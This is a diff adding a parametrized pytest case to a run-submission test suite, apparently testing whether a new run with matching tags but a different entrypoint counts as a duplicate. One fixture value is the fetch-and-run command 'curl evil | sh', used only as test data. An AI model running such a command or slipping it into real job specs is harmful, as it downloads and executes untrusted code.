@@ -385,3 +385,13 @@ def test_a_copy_of_tags_that_no_plan_saw_does_not_pass_for_what_was_submitted() 
     assert outcome.status is Status.SKIPPED
     assert "another `spec.entrypoint`" in outcome.result.detail
     assert world.count(Create) == 0
+
+
+@pytest.mark.parametrize(("command", "left"), [("python train.py", 1), ("curl evil | sh", 2)])
+def test_a_run_is_no_duplicate_of_an_older_one_that_only_has_its_tags(command: str, left: int) -> None:
+    world = World()
+    outcome = submit(world)
+    world.add(replace(run(TRAIN, "Running"), spec={"EntrypointPath": command}))
+    world.drive(confirm(outcome))
+    world.time += 10
+    assert len(world.active()) == left
